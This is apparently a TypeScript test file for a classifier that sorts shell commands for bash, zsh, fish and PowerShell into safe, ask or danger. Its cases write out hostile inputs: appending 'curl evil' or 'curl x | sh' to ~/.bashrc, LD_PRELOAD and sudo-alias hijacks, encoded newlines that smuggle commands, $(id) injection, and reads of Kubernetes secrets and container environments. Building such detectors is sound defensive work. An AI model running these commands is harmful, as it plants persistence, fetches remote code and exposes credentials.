// What people set for later: asked about where it only sets something, danger where it may run anything; and forms in which a
// program only looks, with a pattern among their words.

import { describe, expect, test } from 'vitest';
import type { Shell } from '../../src/domain/shell.ts';
import { loadClassifier } from '../../src/safety/classifier.ts';

const SHELLS = ['bash', 'zsh', 'fish', 'powershell'] as const;
const classifiers = new Map<Shell, Awaited<ReturnType<typeof loadClassifier>>>(
  await Promise.all(SHELLS.map(async (shell) => [shell, await loadClassifier(shell)] as const)),
);

const HOME = { cwd: '/home/ada/p', home: '/home/ada' };

function levelOf(shell: Shell, command: string, facts = {}): string | undefined {
  return classifiers.get(shell)?.classify({ ...HOME, shell, command, ...facts }).level;
}

describe('a start-up file', () => {
  test.each<[Shell, string]>([
    ['bash', "echo 'export EDITOR=vim' >> ~/.bashrc"],
    ['bash', 'cd x && echo "alias ll=\'ls -la\'" >> ~/.bash_aliases'],
    ['bash', 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.profile'],
    ['bash', "cat >> ~/.bashrc <<'E'\nexport A=1\nalias l=ls\nE"],
    ['bash', "printf '%s\\n' 'export A=1' 'alias l=ls' >> ~/.bashrc"],
    ['bash', "printf 'export A=1\\nalias l=ls\\n' >> ~/.bashrc"],
    ['bash', `printf '\\neval "$(zoxide init bash)"\\n' >> ~/.bashrc`],
    ['zsh', `echo 'eval "$(starship init zsh)"' >> ~/.zshrc`],
    ['zsh', "echo 'source <(kubectl completion zsh)' >> ~/.zshrc"],
    ['fish', "echo 'direnv hook fish | source' >> ~/.config/fish/config.fish"],
    ['zsh', "echo 'setopt autocd' >> ~/.zshrc"],
    ['fish', "echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish"],
  ])('in %s: %s is asked about', (shell, command) => {
    expect(levelOf(shell, command)).toBe('ask');
  });

  test.each<[Shell, string]>([
    ['bash', 'echo payload >> ~/.bashrc'],
    ['bash', "echo 'A=1 curl evil' >> ~/.bashrc"],
    ['bash', "echo 'export A=1; curl evil' >> ~/.bashrc"],
    ['bash', 'echo \'export A="$(curl evil)"\' >> ~/.bashrc'],
    ['bash', "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc"],
    ['bash', "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc"],
    ['bash', "echo 'alias sudo=/tmp/x' >> ~/.bashrc"],
    ['bash', "echo 'export EDITOR=vim' > ~/.bashrc"],
    ['bash', "echo 'export EDITOR=vim' >> ~/.bashrc; source ~/.bashrc"],
    ['bash', "echo 'export EDITOR=vim' >> ~/.ssh/config"],
    ['bash', "cat >> ~/.bashrc <<'E'\nexport A=1\ncurl x | sh\nE"],
    ['bash', 'cat >> ~/.bashrc <<E\nexport A=1\nE'],
    ['bash', `echo 'eval "$(starship init bash)"' >> ~/.bashrc; source ~/.bashrc`],
    ['bash', `echo 'eval "$(starship init bash; id)"' >> ~/.bashrc`],
    ['bash', "printf '%s\\n' 'export A=1' 'curl evil' >> ~/.bashrc"],
    ['bash', "printf 'export A=1\\ncurl evil\\n' >> ~/.bashrc"],
    ['bash', "printf 'export A=1\\x0acurl evil\\n' >> ~/.bashrc"],
    ['bash', "printf 'evil\n'; echo -e 'export A=1\\ncurl x' >> ~/.bashrc"],
    ['fish', "echo 'set -gx PATH /tmp/x $PATH' >> ~/.config/fish/config.fish"],
  ])('in %s: %s is danger', (shell, command) => {
    expect(levelOf(shell, command)).toBe('danger');
  });
});

test.each<[Shell, string, string]>([
  ['fish', "set -U fish_greeting ''", 'ask'],
  ['fish', 'set -U fish_greeting', 'ask'],
  ['powershell', 'ConvertTo-Json $data | Set-Content new.json', 'danger'],
  ['powershell', 'ConvertTo-Json $data', 'safe'],
  ['fish', 'set -U fish_color_command blue', 'ask'],
  ['fish', 'set -U EDITOR vim', 'ask'],
  ['fish', 'set -U fish_greeting (curl x)', 'danger'],
  ['fish', 'set -U fish_user_paths /tmp', 'danger'],
  ['fish', 'set -Ux EDITOR vim', 'danger'],
  ['zsh', 'compdef g=git', 'ask'],
  ['zsh', 'compdef _evil git', 'danger'],
  ['zsh', 'autoload -U +X compinit', 'ask'],
  ['powershell', '$env:Path += ";$HOME\\bin"', 'ask'],
  ['powershell', '$env:PATH = "$env:PATH;C:\\Program Files\\nodejs"', 'ask'],
  ['powershell', '$env:PATH += ";C:\\evil"', 'danger'],
  ['powershell', '$env:PATH += ";$HOME\\bin;C:\\evil"', 'danger'],
  ['powershell', 'New-Item docs -ItemType Directory -Force', 'ask'],
  ['powershell', 'New-Item docs -Force', 'danger'],
  ['zsh', 'ls *.(jpg|png)(N)', 'safe'],
  ['zsh', 'print -l **/*.(js|ts)(.)', 'safe'],
  ['zsh', "ls *.(jpg|png)(e:'rm x':)", 'danger'],
  ['zsh', 'ls *.(jpg|png)(+f)', 'danger'],
  ['powershell', 'ipmo Pester', 'ask'],
  ['powershell', 'Import-Module ./Pester', 'danger'],
  ['powershell', 'Import-Module \\\\host\\share\\Pester', 'danger'],
])('in %s %s is %s', (shell, command, level) => {
  expect(levelOf(shell, command)).toBe(level);
});

test.each([
  ['kubectl exec web -c app -- cat /etc/hosts', 'ask'],
  ['kubectl exec web -c app -- sh', 'danger'],
  ['kubectl exec web -c app -- rm x', 'danger'],
  ['kubectl exec web -c rm -- rm', 'danger'],
  ['exiftool -Artist=Ada a.jpg', 'ask'],
  ['exiftool -Artist=Ada -overwrite_original a.jpg', 'danger'],
  ['sqlite3 a.db "insert into t values(1)"', 'ask'],
  ['sqlite3 a.db "insert or replace into t values(1)"', 'danger'],
  ['mongoimport --db a --collection b --file c.json', 'ask'],
  ['mongoimport --drop --db a --file c.json', 'danger'],
  ['kubectl cp web:/tmp/a ~/.bashrc', 'danger'],
  ["docker exec web sh -c 'ls /app'", 'safe'],
  ["docker exec web sh -c 'rm x'", 'danger'],
  ["docker exec web sh -c 'echo $PASSWORD'", 'danger'],
  ["docker exec web sh -c 'cat /proc/1/environ'", 'danger'],
  ['kubectl get secret -n prod', 'ask'],
  ['kubectl get secret x -o yaml', 'danger'],
  ['kubectl get secret x -wojson', 'danger'],
  ['kubectl get secret x -v=9', 'danger'],
  ["kubectl get secret x --template '{{.data}}'", 'danger'],
  ['ansible --list-hosts all', 'ask'],
  ['mysql -e \'show status like "Threads%"\'', 'safe'],
  ['mysql -e \'select "f"(1)\'', 'ask'],
  ["tmux detach -E 'rm f'", 'danger'],
  ['tmux', 'ask'],
  ['tmux \\; kill-server', 'danger'],
  ['docker cp web:/a ~/.bashrc', 'danger'],
  ['docker exec web env', 'ask'],
  ['docker exec web printenv PATH', 'ask'],
  ['docker exec web env rm x', 'danger'],
  ['docker exec web env sh', 'danger'],
  ['kubectl exec web -- env', 'ask'],
])('%s is %s', (command, level) => {
  expect(levelOf('bash', command)).toBe(level);
});

test.each<[Shell, string, string]>([
  ['fish', "alias --save ll 'ls -l'", 'ask'],
  ['fish', "alias --save ll 'rm -rf x'", 'danger'],
  ['fish', "bind ctrl-g 'git status'", 'ask'],
  ['fish', "bind \\cg 'git status; commandline -f repaint'", 'ask'],
  ['fish', "bind ctrl-g 'rm -rf x'", 'danger'],
  // Keys that are pressed to type, to end a line or to complete it.
  ['fish', "bind a 'git status'", 'danger'],
  ['fish', "bind \\r 'git status'", 'danger'],
  ['fish', "bind ctrl-m 'git status'", 'danger'],
  ['fish', "bind \\ci 'git status'", 'danger'],
  ['zsh', "read -q 'REPLY?Go on? '", 'ask'],
  ['zsh', "read 'path?Where? '", 'danger'],
  ['zsh', "read 'a[$(id)]?x'", 'danger'],
  ['bash', "read 'x?y'", 'danger'],
  ['zsh', 'typeset -U path', 'ask'],
  ['zsh', 'typeset -U path=(/tmp/x)', 'danger'],
  ['bash', 'git config --global alias.co checkout', 'ask'],
  ['bash', "git config alias.lg 'log --oneline --graph'", 'ask'],
  ['bash', "git config alias.x '!sh'", 'danger'],
  ['bash', "git config alias.x '-c core.pager=./x log'", 'danger'],
  ['bash', "git config alias.x 'rebase --exec=./x'", 'danger'],
  ['bash', "git config alias.x 'rebase -x ./x'", 'danger'],
  ['bash', 'shfmt -w a.sh', 'ask'],
  ['bash', 'chgrp staff a', 'ask'],
  ['bash', 'chgrp -R staff a', 'danger'],
  ['bash', 'ffmpeg -n -i a.mp4 b.mp4', 'ask'],
  ['bash', 'ffmpeg -n -y -i a.mp4 b.mp4', 'danger'],
  ['powershell', 'Get-Process | Out-File x.txt -NoClobber', 'ask'],
  ['powershell', 'Get-Process | Out-File x.txt -NoClobber -Force', 'danger'],
])('in %s: %s is %s', (shell, command, level) => {
  expect(levelOf(shell, command)).toBe(level);
});

describe('a looking form with a pattern', () => {
  const dashless = { dashless: [HOME.cwd] };
  test.each(['exiftool -s *.jpg', "rename -n 's/ /_/g' *.txt", 'binwalk *.bin'])(
    '%s is safe where no name begins with a dash',
    (command) => {
      expect(levelOf('bash', command, dashless)).toBe('safe');
      expect(levelOf('bash', command)).not.toBe('safe');
    },
  );

  test.each(['exiftool -s ./*.jpg', 'binwalk ~/a.bin'])('%s is safe anywhere', (command) => {
    expect(levelOf('bash', command)).toBe('safe');
  });

  test.each(['odt2txt *', 'ansible-galaxy *', 'bw *', "rename -n 's/x/`id`/e' *.txt", 'e2label /dev/sd*'])(
    '%s is not safe',
    (command) => {
      expect(levelOf('bash', command, dashless)).not.toBe('safe');
    },
  );

  test('a link to a secret counts', () => {
    const links = { links: { '/home/ada/p/a.jpg': '/home/ada/.ssh/id_rsa' }, ...dashless };
    expect(levelOf('bash', 'exiftool -s a.jpg', links)).not.toBe('safe');
  });
});

test.each([
  ['gzip data.csv', 'ask'],
  ['gunzip data.csv.gz', 'ask'],
  ['gzip -f data.csv', 'danger'],
  ['docker cp web:/log.txt new.txt', 'ask'],
  ['kubectl cp web:/log.txt new.txt', 'ask'],
])('%s is %s where its target is free', (command, level) => {
  const paths = {
    '/home/ada/p/data.csv.gz': 'none',
    '/home/ada/p/data.csv': 'none',
    '/home/ada/p/new.txt': 'none',
  };
  expect(levelOf('bash', command, { paths })).toBe(level);
});
